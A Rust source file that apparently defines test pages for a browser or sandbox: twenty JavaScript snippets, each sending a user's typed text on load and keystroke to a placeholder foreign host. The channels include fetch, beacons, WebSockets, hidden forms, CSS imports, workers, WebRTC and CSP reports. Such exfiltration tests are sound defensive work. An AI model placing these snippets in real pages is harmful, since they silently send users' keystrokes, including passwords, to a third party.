//! Pages that send typed text to another origin. Every page does so in a different way.
//!
//! Each page tries to send when it is loaded, and with every key stroke.

use super::hostility::{Hostility, Twist};

pub(super) const LEAKS: [Hostility; 20] = [
    Hostility::script(
        "leak-by-fetch",
        "const leak = () => fetch('@FOREIGN@/fetch', { method: 'POST', mode: 'no-cors', keepalive: true, body: typed() });
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-preflight",
        "const leak = () => fetch('@FOREIGN@/preflight', { method: 'PUT', headers: { 'x-typed': 'y' }, body: typed() }).catch(() => {});
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-request",
        "const leak = () => { const ask = new XMLHttpRequest(); ask.open('GET', '@FOREIGN@/request?' + typed()); ask.send(); };
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-beacon",
        "const leak = () => navigator.sendBeacon('@FOREIGN@/beacon', typed());
leak(); addEventListener('input', leak); addEventListener('pagehide', leak);",
    ),
    Hostility::script(
        "leak-by-socket",
        "const leak = () => new WebSocket('@SOCKET@/socket?' + encodeURIComponent(typed()));
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-image",
        "const leak = () => { new Image().src = '@FOREIGN@/image?' + encodeURIComponent(typed()); };
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-event-source",
        "const leak = () => new EventSource('@FOREIGN@/events?' + encodeURIComponent(typed()));
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-hidden-form",
        "const leak = () => {
  const form = document.createElement('form');
  Object.assign(form, { action: '@FOREIGN@/hidden-form', method: 'post', target: 'unseen' });
  const field = document.createElement('input');
  Object.assign(field, { name: 'typed', value: typed() });
  form.append(field);
  document.body.append(form);
  form.submit();
};
const frame = document.createElement('iframe');
Object.assign(frame, { name: 'unseen', hidden: true });
document.body.append(frame);
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-style",
        "const leak = () => {
  const style = document.createElement('style');
  style.textContent = '@import url(@FOREIGN@/import?' + encodeURIComponent(typed()) + ');body{background:url(@FOREIGN@/background?' + encodeURIComponent(typed()) + ')}';
  document.head.append(style);
};
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-script",
        "const leak = () => {
  const script = document.createElement('script');
  script.src = '@FOREIGN@/script?' + encodeURIComponent(typed());
  document.head.append(script);
  import('@FOREIGN@/module?' + encodeURIComponent(typed())).catch(() => {});
};
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-hints",
        "const leak = () => {
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'stylesheet']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, as: 'image', href: '@FOREIGN@/' + rel + '?' + encodeURIComponent(typed()) });
    document.head.append(link);
  }
};
leak(); addEventListener('input', leak);",
    ),
    Hostility::both(
        "leak-by-speculation",
        "<script type=\"speculationrules\">{\"prerender\":[{\"urls\":[\"@HERE@/done\"]}],\"prefetch\":[{\"urls\":[\"@FOREIGN@/speculation\"],\"referrer_policy\":\"no-referrer\"}]}</script>",
        "",
    ),
    Hostility::script(
        "leak-by-media",
        "const leak = () => {
  for (const tag of ['video', 'audio', 'embed', 'iframe', 'track']) {
    const element = document.createElement(tag);
    element.src = '@FOREIGN@/' + tag + '?' + encodeURIComponent(typed());
    document.body.append(element);
  }
  new FontFace('leak', 'url(@FOREIGN@/font?' + encodeURIComponent(typed()) + ')').load().catch(() => {});
};
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-worker",
        "const code = 'onmessage = (m) => { fetch(\"@FOREIGN@/worker\", { method: \"POST\", mode: \"no-cors\", body: m.data }); }';
const worker = new Worker(URL.createObjectURL(new Blob([code])));
const leak = () => worker.postMessage(typed());
leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-shared-worker",
        "const shared = new SharedWorker('@HERE@/worker.js?shared');
const leak = () => shared.port.postMessage(typed());
shared.port.start(); leak(); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-service-worker",
        "navigator.serviceWorker.register('@HERE@/worker.js', { scope: '/site/hostile/' }).catch(() => {});
const leak = () => navigator.serviceWorker.controller?.postMessage(typed());
setInterval(leak, 300); addEventListener('input', leak);",
    ),
    Hostility::script(
        "leak-by-call",
        "const leak = async () => {
  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:@HOST@' }] });
  call.createDataChannel(typed());
  await call.setLocalDescription(await call.createOffer());
};
leak().catch(() => {}); addEventListener('input', () => leak().catch(() => {}));",
    ),
    Hostility::both(
        "leak-by-ping",
        "<a id=\"ping\" href=\"#\" ping=\"@FOREIGN@/ping\">Continue by a link</a>",
        "const leak = () => {
  const link = document.getElementById('ping');
  link.ping = '@FOREIGN@/ping?' + encodeURIComponent(typed());
  link.click();
};
leak(); addEventListener('input', leak);",
    ),
    Hostility {
        twist: Twist::Header(
            "content-security-policy-report-only",
            "default-src 'none'; report-uri @FOREIGN@/report",
        ),
        ..Hostility::script(
            "leak-by-report",
            "addEventListener('input', () => { new Image().src = '@HERE@/picture?' + typed(); });",
        )
    },
    Hostility::both(
        "leak-by-message",
        "<iframe id=\"other\" src=\"@FOREIGN@/message-frame\"></iframe>",
        "const leak = () => {
  window.name = typed();
  document.getElementById('other').contentWindow.postMessage(typed(), '*');
};
leak(); addEventListener('input', leak);",
    ),
];
